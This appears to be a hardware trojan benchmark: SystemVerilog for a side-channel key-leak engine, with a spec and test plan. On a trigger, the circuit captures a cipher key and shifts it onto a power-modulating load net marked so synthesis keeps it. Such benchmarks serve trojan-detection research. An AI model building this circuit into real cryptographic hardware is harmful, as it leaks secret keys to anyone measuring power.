// File: rtl/tsc_pkg.sv
// Shared types and sizing helpers for the timer-driven side-channel leak engine.
package tsc_pkg;

  localparam int TSC_MAX_LANES = 8;

  typedef enum logic [1:0] {
    IDLE = 2'd0,
    LEAK = 2'd1,
    DONE = 2'd2
  } tsc_state_t;

  function automatic int tsc_steps(input int key_w, input int lanes);
    return key_w / lanes;
  endfunction

  // Counter/index width that stays at least one bit for degenerate sizes.
  function automatic int tsc_width(input int n);
    return (n <= 2) ? 1 : $clog2(n);
  endfunction

endpackage

// File: rtl/tsc_period_counter.sv
// Free-running modulo-PERIOD counter; tick marks the last cycle of each period.
module tsc_period_counter
  import tsc_pkg::*;
#(
  parameter int PERIOD = 256
) (
  input  logic                         clk,
  input  logic                         rst,
  input  logic                         clear,
  input  logic                         run,
  output logic                         tick,
  output logic [tsc_width(PERIOD)-1:0] cnt
);

  localparam int CW = tsc_width(PERIOD);
  localparam logic [CW-1:0] CNT_LAST = CW'(PERIOD - 1);

  assign tick = run && (cnt == CNT_LAST);

  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      cnt <= '0;
    end else if (clear) begin
      cnt <= '0;
    end else if (run) begin
      cnt <= (cnt == CNT_LAST) ? '0 : cnt + 1'b1;
    end
  end

endmodule

// File: rtl/tsc_leak_engine.sv
// Captures a key on a trigger edge and shifts it out LANES bits per PERIOD cycles
// onto a replicated load net; never feeds anything back into the cipher.
module tsc_leak_engine
  import tsc_pkg::*;
#(
  parameter int KEY_W  = 56,
  parameter int LANES  = 1,
  parameter int PERIOD = 256,
  parameter int FANOUT = 10,
  parameter int ROTATE = 0
) (
  input  logic                                   clk,
  input  logic                                   rst,
  input  logic [KEY_W-1:0]                       key,
  input  logic                                   tj_trig,
  output logic [LANES-1:0]                       leak_bits,
  output logic [FANOUT-1:0]                      load_net,
  output logic                                   busy,
  output logic [tsc_width(tsc_steps(KEY_W, LANES))-1:0] step_idx
);

  localparam int STEPS = tsc_steps(KEY_W, LANES);
  localparam int SW    = tsc_width(STEPS);
  localparam logic [SW-1:0] LAST_STEP = SW'(STEPS - 1);

  if ((KEY_W % LANES) != 0) begin : g_bad_key_w
    $error("KEY_W must be a multiple of LANES");
  end
  if (LANES < 1 || LANES > TSC_MAX_LANES) begin : g_bad_lanes
    $error("LANES out of range");
  end
  if (PERIOD < 2) begin : g_bad_period
    $error("PERIOD must be at least 2");
  end

  tsc_state_t state;
  logic [KEY_W-1:0] shreg;
  logic [KEY_W-1:0] shreg_next;
  logic trig_q;
  logic trig_edge;
  logic tick;
  // Phase within the current step; only the tick matters here.
  logic [tsc_width(PERIOD)-1:0] period_cnt_unused;

  assign trig_edge = tj_trig & ~trig_q;

  assign shreg_next = (ROTATE != 0) ? ((shreg >> LANES) | (shreg << (KEY_W - LANES)))
                                    : (shreg >> LANES);

  tsc_period_counter #(.PERIOD(PERIOD)) u_period (
    .clk   (clk),
    .rst   (rst),
    .clear (trig_edge),
    .run   (state == LEAK),
    .tick  (tick),
    .cnt   (period_cnt_unused)
  );

  // A trigger edge outranks any shift or terminal step in the same cycle.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      state    <= IDLE;
      shreg    <= '0;
      step_idx <= '0;
      trig_q   <= 1'b0;
      busy     <= 1'b0;
    end else begin
      trig_q <= tj_trig;
      if (trig_edge) begin
        shreg    <= key;
        step_idx <= '0;
        state    <= LEAK;
        busy     <= 1'b1;
      end else if (tick) begin
        shreg <= shreg_next;
        if (step_idx == LAST_STEP) begin
          if (ROTATE != 0) begin
            step_idx <= '0;
          end else begin
            state <= DONE;
            busy  <= 1'b0;
          end
        end else begin
          step_idx <= step_idx + 1'b1;
        end
      end
    end
  end

  assign leak_bits = shreg[LANES-1:0];

  (* keep = "true", dont_touch = "true" *) logic [FANOUT-1:0] load_copies;

  for (genvar i = 0; i < FANOUT; i++) begin : g_load
    assign load_copies[i] = leak_bits[i % LANES];
  end

  assign load_net = load_copies;

endmodule

// File: doc/tsc_leak_engine.md
# tsc_leak_engine

- Parametrised, fully synchronous successor to the single-bit side-channel leakage circuit in the trojan benchmark set.
- On a trigger edge it captures a secret of configurable width, then shifts it out `LANES` bits at a time.
- Each step is held for `PERIOD` clock cycles, and the leaked bits drive a replicated load net that modulates power.
- It sits beside the DES/AES datapath, taps the key bus and the trigger net, and has no functional outputs back into the cipher.

## Interface
- `KEY_W`, 56: width of captured secret; must be a multiple of `LANES` (elaboration error otherwise).
- `LANES`, 1: bits leaked per step, 1..8.
- `PERIOD`, 256: clock cycles per leak step, ≥2.
- `FANOUT`, 10: number of load-net copies.
- `ROTATE`, 0: 0 = one-shot shift-out then idle; 1 = rotate forever.
- `clk` input 1: single clock, rising edge.
- `rst` input 1: reset, asynchronous, active-low.
- `key` input `KEY_W`: secret key bus, sampled only on a trigger edge.
- `tj_trig` input 1: trigger, synchronous to `clk`; its rising edge starts a capture.
- `leak_bits` output `LANES`: current leaked bits, equal to `shreg[LANES-1:0]`.
- `load_net` output `FANOUT`: `load_net[i] = leak_bits[i % LANES]`; keep/dont_touch attribute on this net.
- `busy` output 1: high while in state `LEAK`.
- `step_idx` output `$clog2(KEY_W/LANES)`: index of the current step.

## Operation
- **State machine states:** `IDLE`, `LEAK`, `DONE`.
- **Registers:** `shreg[KEY_W]`, `cnt[$clog2(PERIOD)]`, `step_idx`, `trig_q`.
- **Trigger edge:** `trig_edge = tj_trig & ~trig_q`.
- **Trigger in any state:** `shreg <= key`, `cnt <= 0`, `step_idx <= 0`, `state <= LEAK`.
- **In `LEAK`:**
  - `cnt` increments every cycle.
  - At `cnt == PERIOD-1`:
    - `cnt <= 0`.
    - `ROTATE=0`: `shreg <= shreg >> LANES`, zero-filled.
    - `ROTATE=1`: `shreg` is rotated right by `LANES`.
    - `step_idx` increments.
- **Terminal step:** `step_idx == KEY_W/LANES-1` together with `cnt == PERIOD-1`.
  - `ROTATE=0`: go to `DONE`; `shreg` is then all zero.
  - `ROTATE=1`: `step_idx` wraps to 0 and the state stays `LEAK`.
- **`DONE`:** holds everything until the next trigger edge. `IDLE` behaves identically; `DONE` exists so the bench can tell "never triggered" from "finished".
- **Trigger priority:** a trigger edge in the same cycle as a shift or the terminal step wins; the new key is loaded and no shift happens.
- **Held trigger:** a trigger held high produces one capture only. It must go low for ≥1 cycle before it can re-arm.
- **Reset** (at any time, including mid-`LEAK`):
  - `state = IDLE`.
  - `shreg`, `cnt`, `step_idx` and `trig_q` = 0.
  - Outputs: `leak_bits = 0`, `load_net = 0`, `busy = 0`, `step_idx = 0`.

## Timing
- `tj_trig` is sampled high at edge n with `trig_q = 0`. After edge n:
  - `shreg = key`, `busy = 1`.
  - `leak_bits = key[LANES-1:0]` (first step held for the full `PERIOD`).
- Step k is presented from cycle n + k·`PERIOD`, for exactly `PERIOD` cycles.
- `ROTATE=0`: after edge n + (`KEY_W/LANES`)·`PERIOD`, `busy = 0` and `leak_bits = 0`.
- `load_net` follows `leak_bits` combinationally; no extra latency.
- `key` changing after capture has no effect.

## Structure
- **Package `tsc_pkg`:**
  - `tsc_state_t` enum (`IDLE`/`LEAK`/`DONE`).
  - Function `tsc_steps(KEY_W, LANES)`.
  - Localparam width helpers.
- **Sub-module `tsc_period_counter`:**
  - Parameter `PERIOD`.
  - Inputs `clear` and `run`.
  - Outputs `tick` (high when `cnt == PERIOD-1` and `run`) and `cnt`.
  - It is reused by other timer-trigger benchmarks.
- The top holds the FSM, `shreg` and the load-net replication.

## Test plan
- **Reset mid-leak:** `KEY_W=56`, `LANES=1`, `PERIOD=4`, `key=56'h05`. Pulse trigger, then assert `rst` after 10 cycles.
  - Before reset: `leak_bits` sequence is 1,1,1,1,0,0,0,0,1,1.
  - After reset: `busy=0`, `leak_bits=0` immediately.
- **Full one-shot:** same config, `key=56'h80_0000_0000_0001`.
  - `leak_bits=1` for cycles 0–3, then 0 until step 55.
  - Step 55 (cycles 220–223) shows 1.
  - Then `busy=0` and `state=DONE`.
- **Multi-lane:** `LANES=4`, `PERIOD=2`, `key=56'h0123456789ABCD`.
  - `leak_bits` sequence: D,C,B,A,9,…,1,0, each held 2 cycles.
  - 14 steps; `load_net[i] = leak_bits[i%4]`.
- **Rotate mode:** `ROTATE=1`, `LANES=1`, `PERIOD=2`, `key=56'h1`.
  - `leak_bits=1` at cycles 0–1 and again at cycles 112–113.
  - `step_idx` wraps 55→0; `busy` stays 1.
- **Retrigger on terminal tick:** trigger edge coincides with the final tick.
  - The new key loads, `step_idx=0`, and no transition to `DONE` occurs.
  - A trigger held high for 300 cycles yields one capture only.
- **Key bus change after capture:** change `key` after capture.
  - Output is unchanged.
  - A second rising edge while `busy` reloads the new key within 1 cycle.
